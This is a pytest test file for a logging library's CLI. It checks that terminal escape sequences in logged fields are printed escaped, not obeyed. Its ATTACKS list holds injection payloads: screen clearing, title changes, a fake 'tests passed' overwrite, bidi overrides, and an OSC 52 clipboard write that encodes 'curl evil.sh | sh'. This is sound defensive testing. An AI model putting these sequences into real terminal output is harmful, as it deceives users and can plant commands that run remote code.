"""Logged text printed for people never drives the terminal: every control is shown, none obeyed."""

from __future__ import annotations

import contextlib
import io
import json
import logging
import tempfile
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import wflogging
from tests.conftest import unique_logger, valid_fields
from wflogging.cli import main
from wflogging.terminal import visible

#: What an attacker would put in a completion: clear screen, window title, OSC 52 clipboard
#: write, a hyperlink, cursor moves, a C1 CSI, a carriage return overwrite, a bidi override.
ATTACKS = [
    "\x1b[2J\x1b[H",
    "\x1b]0;pwned\x07",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[1A\x1b[2K",
    "\x9b31m",
    "all tests passed\rFAILED",
    "\u202eevil\u202c",
]
_BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029")


def _obeyed(text: str) -> list[str]:
    """The characters of ``text`` that a terminal would act on (all controls but the newline)."""
    return [
        char
        for char in text
        if char != "\n" and (unicodedata.category(char) in {"Cc", "Cs"} or char in _BIDI)
    ]


def _cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def _log(path: Path, **fields: object) -> None:
    handler = wflogging.TaskEventHandler(path)
    logger = unique_logger()
    logger.addHandler(handler)
    with wflogging.workflow_run():
        logger.info("task", extra=valid_fields(**fields))
    handler.close()


def _hostile_fields(text: str) -> dict[str, object]:
    return {
        "task_id": "1." + text,
        "task_description": text,
        "agent_name": "/dev:" + text,
        "llm_trace": [{"model_name": "m" + text, "prompt": text, "completion": text}],
        "human_feedback": {"type": "comment", "content": text, "timestamp_utc": "2026-03-01T10:00:01Z"},
    }


def _everything_printed(directory: Path, text: str) -> list[tuple[str, str]]:
    """(command, output) for every text output of every command, on an events file holding ``text``."""
    events = directory / "events.jsonl"
    _log(events, **_hostile_fields(text))
    bad = directory / "bad.jsonl"  # an invalid entry quoting the text, and a torn line
    torn = text.replace("\n", "").encode("utf-8", "surrogatepass")  # lone surrogates: invalid UTF-8
    bad.write_bytes(json.dumps({"task_id": text, "status": text}).encode() + b"\n" + torn + b"\n")
    written = events.read_text().splitlines() if events.exists() else []  # a lone surrogate: a reject
    event_id = json.loads(written[0])["event_id"] if written else text
    runs = [
        ("show", ("show", "--event", event_id, str(events))),
        ("report", ("report", str(events), str(bad))),
        ("report markdown", ("report", "--format", "markdown", str(events))),
        ("validate", ("validate", str(events), str(bad))),
        ("timeline", ("timeline", "-o", str(directory / "t.html"), str(events))),
    ]
    printed = []
    for name, args in runs:
        _, out, err = _cli(*args)
        printed += [(f"{name} stdout", out), (f"{name} stderr", err)]
    return printed


def test_known_terminal_attacks_are_shown_not_obeyed(tmp_path: Path) -> None:
    """Clear screen, title, clipboard, hyperlink, CSI, CR overwrite, bidi: each printed escaped."""
    for number, attack in enumerate(ATTACKS):
        directory = tmp_path / str(number)
        directory.mkdir()
        printed = _everything_printed(directory, attack)
        for name, output in printed:
            assert _obeyed(output) == [], f"{name} printed {attack!r} raw"
        show = dict(printed)["show stdout"]
        assert visible(attack) in show  # still there for the operator to see, escaped


def test_json_output_stays_exact(tmp_path: Path) -> None:
    """--format json and show --raw keep the logged text exactly (JSON escapes it its own way)."""
    events = tmp_path / "events.jsonl"
    attack = "".join(ATTACKS)
    _log(events, **_hostile_fields(attack))
    entry = json.loads(events.read_text())
    stored = events.read_bytes()
    raw = io.BytesIO()
    text = io.TextIOWrapper(raw, encoding="utf-8")
    with contextlib.redirect_stdout(text):
        main(["show", "--raw", "--event", entry["event_id"], str(events)])
    text.flush()
    assert raw.getvalue() == stored
    assert entry["llm_trace"][0]["completion"] == attack


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF), min_size=1, max_size=40))
def test_no_logged_string_makes_any_command_print_a_control_character(text: str) -> None:
    """Any text in any field: show, report, validate, timeline print no control but the newline."""
    logging.raiseExceptions = True
    with tempfile.TemporaryDirectory() as directory:
        for name, output in _everything_printed(Path(directory), text):
            assert _obeyed(output) == [], f"{name} printed {_obeyed(output)!r} raw"
            output.encode("utf-8")  # printable on a UTF-8 terminal: no lone surrogate


def test_visible_escapes_like_repr_and_keeps_newlines() -> None:
    assert visible("a\x1b[31mb\tc\r\nd\x9b\u202e\ud800") == "a\\x1b[31mb\\tc\\r\nd\\x9b\\u202e\\ud800"
    plain = "héllo wörld 漢字 🎉\n"
    assert visible(plain) is plain


def test_the_libraries_stderr_line_for_a_reject_shows_controls_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The one-line reject report on stderr (often a terminal) escapes the task id it quotes."""
    for attack in ATTACKS:
        _log(tmp_path / "events.jsonl", task_id=attack, status="Maybe" + attack)
        err = capsys.readouterr().err
        assert "rejected task event" in err
        assert _obeyed(err) == [], f"stderr printed {attack!r} raw"
